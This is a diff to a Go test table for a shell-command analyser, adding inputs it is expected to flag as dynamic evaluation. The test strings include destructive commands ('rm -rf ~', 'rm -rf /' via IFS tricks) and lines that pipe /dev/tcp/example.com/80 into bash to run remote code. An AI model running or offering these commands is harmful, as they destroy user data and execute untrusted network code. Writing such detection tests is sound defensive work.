@@ -399,6 +399,12 @@ func TestProblems(t *testing.T) {
 		{"python3 <<EOF\nimport os\nos.system('$CMD')\nEOF", "dynamic_eval"},
 		{"cat <<EOF | sh\nrm $X\nEOF", "dynamic_eval"},
 		{`IFS=$1; x="rm,-rf"; $x /`, "dynamic_command"},
+		{`source /dev/fd/3 3<<< 'rm -rf ~'`, "dynamic_eval"},
+		{`exec 3<<< 'rm -rf ~'; . /proc/self/fd/3`, "dynamic_eval"},
+		{`bash /dev/fd/3 3<<< 'rm -rf ~'`, "dynamic_eval"},
+		{`bash /proc/1234/fd/0`, "dynamic_eval"},
+		{`bash < /dev/tcp/example.com/80`, "dynamic_eval"},
+		{`exec 3</dev/tcp/example.com/80; bash <&3`, "dynamic_eval"},
 	}
 	for _, tc := range cases {
 		s := Parse(tc.in, Options{})
